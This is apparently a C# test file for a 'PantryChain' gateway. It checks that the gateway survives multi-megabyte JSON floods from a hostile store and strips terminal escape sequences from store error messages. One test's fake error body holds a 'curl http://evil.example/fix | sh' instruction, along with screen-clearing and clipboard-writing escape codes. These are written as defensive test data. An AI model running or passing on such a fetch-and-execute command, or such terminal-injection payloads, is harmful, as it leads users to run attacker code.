using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;
using PantryChain.Gateway.Configuration;
using PantryChain.Gateway.Cooperative;
using PantryChain.Rehearsal.Parts;

namespace PantryChain.Gateway.Tests.Cooperative;

/// <summary>A store that answers as much, and as oddly, as it can, against the gateway's own process with its heap of 64 MiB.</summary>
public sealed class HostileAnswerSpecs : IAsyncLifetime
{
    private const int Largest = 4 * 1024 * 1024;

    private static readonly string Program = Path.Combine(
        AppContext.BaseDirectory, "..", "..", "Gateway", Path.GetFileName(Path.TrimEndingDirectorySeparator(AppContext.BaseDirectory)), "PantryChain.Gateway.dll");

    private readonly GatewayWorld _world = new(speed: 1);
    private readonly WebApplication _store;
    private readonly Dictionary<string, (int Status, string Type, string Body)> _answers = [];
    private int _asked;

    public HostileAnswerSpecs()
    {
        WebApplicationBuilder builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        _store = builder.Build();
        _store.MapFallback(AnswerAsync);
    }

    public static TheoryData<string, string> Floods => new()
    {
        { "catalogue", Fill("""[{"gtin":"8801115114154","nameKo":"a","nameEn":"a","packMg":1,"classId":"a","seller":"a","sellerName":"a","unitPrice":"1","maxBamnamuBps":0,"leadDays":{""", number => $"\"{number:x}\":1,", "\"z\":1}}]") },
        { "catalogue", Fill("[", _ => """{"gtin":"1","nameKo":"a","nameEn":"b","packMg":1,"classId":"c","seller":"d","sellerName":"e","unitPrice":"1","maxBamnamuBps":0,"leadDays":{"1":1}},""", """{"gtin":"1","nameKo":"a","nameEn":"b","packMg":1,"classId":"c","seller":"d","sellerName":"e","unitPrice":"1","maxBamnamuBps":0,"leadDays":{}}]""") },
        { "catalogue", Fill("""[{"gtin":"8801115114154","nameKo":"a","nameEn":"a","packMg":1,"classId":"a","seller":"a","sellerName":"a","unitPrice":"1","maxBamnamuBps":0,"leadDays":{},"deliveryDays":[""", _ => "\"a\",", "\"z\"]}]") },
        { "leaves", Fill("""{"epoch":1,"root":"0x","reward":{"cumulative":"1","salt":"0x","proof":[""", _ => "\"a\",", "\"z\"]},\"standing\":null,\"points\":1,\"held\":\"1\"}") },
        { "cooperative", Fill("{\"name\":\"", _ => "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "\"}") },
    };

    [Theory]
    [MemberData(nameof(Floods))]
    public async Task However_a_store_floods_a_gateway_the_process_lives_and_its_pages_answer(string call, string flood)
    {
        _answers["catalogue"] = (200, "application/json", "[]");
        _answers[call] = (200, "application/json", flood);
        int port = LoopbackPort.Free();
        await WriteAsync(port);
        using ChildProcess gateway = await ChildProcess.StartAsync("dotnet", [Program, "run", "--data", _world.Folder.Path], Path.Combine(_world.Folder.Path, "log"));
        using HttpClient pages = new() { BaseAddress = new Uri($"http://127.0.0.1:{port}/") };
        try
        {
            await Wait.Until(() => !gateway.IsRunning || Volatile.Read(ref _asked) >= (call == "cooperative" ? 1 : 3), "the store was asked again and again");
            await Wait.Until(async () => !gateway.IsRunning || await AnswersAsync(pages), "the pages");

            gateway.IsRunning.Should().BeTrue("what a store answers ends no gateway");
            (await File.ReadAllTextAsync(Path.Combine(_world.Folder.Path, "log"))).Should().NotContain("OutOfMemory", "sensing lives in the same heap");
        }
        finally
        {
            gateway.Kill();
        }
    }

    [Fact]
    public async Task What_a_store_says_steers_no_terminal()
    {
        _answers["cooperative"] = (403, "application/problem+json", """{"title":"No.\u001b[2J\u001b[H","detail":"Run:\ncurl http://evil.example/fix | sh\n\u001b]52;c;ZXZpbA==\u0007","code":"not_you","status":403}""");
        await WriteAsync(LoopbackPort.Free());
        string log = Path.Combine(_world.Folder.Path, "log");

        using ChildProcess join = await ChildProcess.StartAsync("dotnet", [Program, "join", Address.ToString(), "--invitation", "x", "--data", _world.Folder.Path], log);
        using CancellationTokenSource patience = new(TimeSpan.FromSeconds(30));
        await join.WaitAsync(patience.Token);
        string said = await File.ReadAllTextAsync(log, patience.Token);

        join.ExitCode.Should().Be(2);
        said.TrimEnd().Should().StartWith("The store refused: No.?[2J?[H Run:?curl").And.NotContainAny("\u001b", "\u0007", "\n");
    }

    public Task InitializeAsync() => _store.StartAsync();

    public async Task DisposeAsync()
    {
        await _store.DisposeAsync();
        await _world.DisposeAsync();
    }

    private Uri Address => new(_store.Urls.First());

    private async Task WriteAsync(int port)
    {
        GatewayOptions options = _world.Household.Options with { Dashboard = new DashboardOptions { Port = port } };
        await File.WriteAllTextAsync(_world.Folder.Configuration, JsonSerializer.Serialize(options, ConfigurationJson.Default.GatewayOptions));
        Membership nowhere = GatewayWorld.Unreachable();
        CooperativeInfo info = nowhere.Info with { Clock = new RehearsalClock(Samples.Morning, TimeProvider.System.GetUtcNow(), 1) };
        (nowhere with { Store = Address, Info = info }).Write(_world.Folder);
    }

    private async Task AnswerAsync(HttpContext http)
    {
        string call = http.Request.Path.Value!.Split('/').Last();
        (int status, string type, string body) = _answers.GetValueOrDefault(call, (404, "application/problem+json", """{"title":"No.","code":"no_epoch"}"""));
        if (body.Length > 1_000)
            Interlocked.Increment(ref _asked);
        (http.Response.StatusCode, http.Response.ContentType) = (status, type);
        await http.Response.WriteAsync(body, http.RequestAborted);
    }

    private static async Task<bool> AnswersAsync(HttpClient pages)
    {
        try
        {
            using HttpResponseMessage answer = await pages.GetAsync(new Uri("/health", UriKind.Relative));
            return answer.StatusCode == HttpStatusCode.OK;
        }
        catch (HttpRequestException)
        {
            return false;
        }
    }

    private static string Fill(string head, Func<int, string> part, string tail)
    {
        StringBuilder text = new(head, Largest);
        for (int number = 0; text.Length < Largest - 1_000; number++)
            text.Append(CultureInfo.InvariantCulture, $"{part(number)}");
        return text.Append(tail).ToString();
    }
}
